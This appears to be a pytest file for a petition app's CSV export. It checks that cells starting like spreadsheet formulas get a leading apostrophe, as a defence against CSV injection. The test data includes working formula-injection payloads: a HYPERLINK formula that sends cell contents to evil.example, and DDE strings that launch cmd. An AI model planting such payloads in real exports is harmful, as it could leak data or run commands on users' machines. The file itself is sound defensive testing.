"""A cell a spreadsheet would run as a formula is shown as text instead (OWASP CSV injection)."""

import csv
import io

import pytest

from tests.factories import make_case, make_organisation, make_petition, make_signature, make_staff
from tests.privacy.helpers import streamed_body
from tests.sign_in import sign_in
from undersigned.campaigns.models import Role
from undersigned.privacy.exports.csv_files import csv_cell, neutralise_formula


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_cell_starting_like_a_formula_gets_a_leading_apostrophe(dangerous):
    assert neutralise_formula(dangerous) == "'" + dangerous


def test_a_harmless_name_is_left_unchanged():
    assert neutralise_formula("Jane O'Neil-Smith = friend") == "Jane O'Neil-Smith = friend"


def test_an_empty_cell_stays_empty():
    assert neutralise_formula("") == ""


def test_dates_in_a_cell_are_written_in_iso_8601():
    from datetime import date

    assert csv_cell(date(2021, 1, 4)) == "2021-01-04"


@pytest.mark.django_db
def test_a_signer_named_like_a_formula_is_exported_as_text(client):
    organisation = make_organisation()
    petition = make_petition(case=make_case(organisation=organisation))
    make_signature(petition, name="=cmd|' /C calc'!A0")
    sign_in(client, make_staff(organisation, Role.DATA_OFFICER))
    response = client.get(f"/staff/petitions/{petition.slug}/export/signatures.csv")
    rows = list(csv.reader(io.StringIO(streamed_body(response))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
